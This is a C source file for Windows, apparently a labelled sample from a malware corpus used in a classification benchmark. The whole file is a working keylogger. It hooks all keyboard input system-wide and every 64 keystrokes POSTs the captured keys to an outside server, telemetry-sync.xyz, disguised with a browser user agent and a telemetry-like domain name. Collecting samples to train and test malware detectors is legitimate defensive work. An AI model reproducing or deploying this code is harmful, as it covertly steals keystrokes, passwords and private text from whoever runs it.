// maljan-corpus: a low-level keyboard hook whose buffer is posted to a web server every 64 keys.
// behaviour: keylogging exfiltration
// imports: user32.dll!SetWindowsHookExW user32.dll!GetMessageW wininet.dll!InternetOpenA wininet.dll!InternetConnectA wininet.dll!HttpOpenRequestA wininet.dll!HttpSendRequestA
// link: -luser32 -lwininet
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>
#include <wininet.h>

static char keys[64];
static unsigned count;

static void post(void) {
    HINTERNET net = InternetOpenA("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    HINTERNET con = InternetConnectA(net, "telemetry-sync.xyz", 443, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
    HINTERNET req = HttpOpenRequestA(con, "POST", "/api/v2/k.php", NULL, NULL, NULL, INTERNET_FLAG_SECURE, 0);
    HttpSendRequestA(req, "Content-Type: application/octet-stream\r\n", (DWORD)-1, keys, count);
    InternetCloseHandle(req);
    InternetCloseHandle(con);
    InternetCloseHandle(net);
    count = 0;
}

static LRESULT CALLBACK on_key(int code, WPARAM w, LPARAM l) {
    if (code == HC_ACTION && w == WM_KEYDOWN) {
        keys[count++] = (char)((KBDLLHOOKSTRUCT *)l)->vkCode;
        if (count == sizeof keys) post();
    }
    return CallNextHookEx(NULL, code, w, l);
}

int WINAPI WinMain(HINSTANCE inst, HINSTANCE prev, LPSTR cmd, int show) {
    (void)prev; (void)cmd; (void)show;
    HHOOK hook = SetWindowsHookExW(WH_KEYBOARD_LL, on_key, inst, 0);
    MSG msg;
    while (GetMessageW(&msg, NULL, 0, 0) > 0) DispatchMessageW(&msg);
    UnhookWindowsHookEx(hook);
    return 0;
}
